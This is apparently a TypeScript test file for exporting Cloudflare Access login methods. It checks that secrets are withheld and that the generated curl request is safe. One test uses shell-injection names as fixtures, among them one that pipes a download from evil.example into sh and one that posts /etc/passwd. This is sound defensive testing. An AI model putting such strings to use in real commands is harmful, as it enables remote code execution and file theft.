import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { allConnectors, connectorFor } from "@/lib/connectors";
import type { Connector, Fixture } from "@/lib/connectors/definition";
import { exportMethod } from "./export";
import { loginMethodSchema, scimSchema } from "./schema";

const scim = scimSchema.parse({ enabled: true });
const stored = { setAt: "2026-01-01T00:00:00Z", setBy: "ada@example.com" };

async function methodOf(connector: Connector, name = "Staff") {
  const module: { fixture: Fixture } = await import(
    `../connectors/${connector.kind.replaceAll("_", "-")}/fixture.ts`
  );
  const { config } = loginMethodSchema(connector, []).parse({
    name,
    config: module.fixture.config,
  });
  const secrets = Object.fromEntries(connector.secrets.map((key) => [key, stored]));
  return { name, kind: connector.kind, config, secrets, scim };
}

/** What the shell hands to curl, argument by argument. */
const argumentsOf = (command: string): string[] =>
  execFileSync("bash", ["-c", `curl() { printf '%s\\0' "$@"; }; ${command}`], {
    encoding: "utf8",
    env: { ...process.env, ACCOUNT_ID: "acc", CLOUDFLARE_API_TOKEN: "tok" },
  })
    .split("\0")
    .slice(0, -1);

describe.each([...allConnectors])("a copy of a login method of $label", (connector) => {
  it("a secret is in no copy, even if a row held it in the clear", async () => {
    const method = await methodOf(connector);
    for (const key of connector.secrets) method.config[key] = `Pl4nted-${key}`;
    const { json, request, withheld } = exportMethod(method, connector);
    expect(`${json}${request}`).not.toContain("Pl4nted");
    expect(json).not.toContain('"client_secret":');
    expect(withheld).toContain("Client secret");
  });

  it("keeps every setting, Cloudflare's under config and ours apart", async () => {
    const method = await methodOf(connector);
    const copy = JSON.parse(exportMethod(method, connector).json);
    expect(copy).toMatchObject({ name: "Staff", type: connector.type, scim_config: scim });
    const known = { ...copy.config, ...copy.gatehouse.config };
    for (const { name } of connector.fields) {
      const value = method.config[name];
      const isKept = !connector.secrets.includes(name) && value !== "" && value !== undefined;
      if (isKept && !(Array.isArray(value) && value.length === 0)) {
        expect(known[name], name).toEqual(value);
      }
    }
  });

  it("is a request that a shell sends as Cloudflare's API documents it", async () => {
    const { request } = exportMethod(await methodOf(connector), connector);
    const [url, ...rest] = argumentsOf(request);
    expect(url).toBe("https://api.cloudflare.com/client/v4/accounts/acc/access/identity_providers");
    expect(rest).toContain("Authorization: Bearer tok");
    const body = JSON.parse(rest.at(-1) ?? "");
    expect(Object.keys(body).sort()).toEqual(["config", "name", "scim_config", "type"]);
    expect(body.config.client_secret).toBe("REPLACE_WITH_THE_CLIENT_SECRET");
    expect(body.config.client_id).toBeTruthy();
  });
});

describe("a copy as a request", () => {
  const oidc = connectorFor("oidc");

  it.each([
    "O'Brien's; echo $HOME `id` $(id) \\ \"",
    "'; curl evil.example | sh; '",
    "-d @/etc/passwd",
  ])("shell injection: the name %j stays a name", async (name) => {
    const method = await methodOf(oidc, name);
    const body = JSON.parse(argumentsOf(exportMethod(method, oidc).request).at(-1) ?? "");
    expect(body.name).toBe(name);
  });

  it("asks for no secret where a public client has none", async () => {
    const method = { ...(await methodOf(oidc)), secrets: {} };
    const { request, withheld } = exportMethod(method, oidc);
    expect(request).not.toContain("REPLACE_WITH");
    expect(withheld).toEqual([]);
  });
});
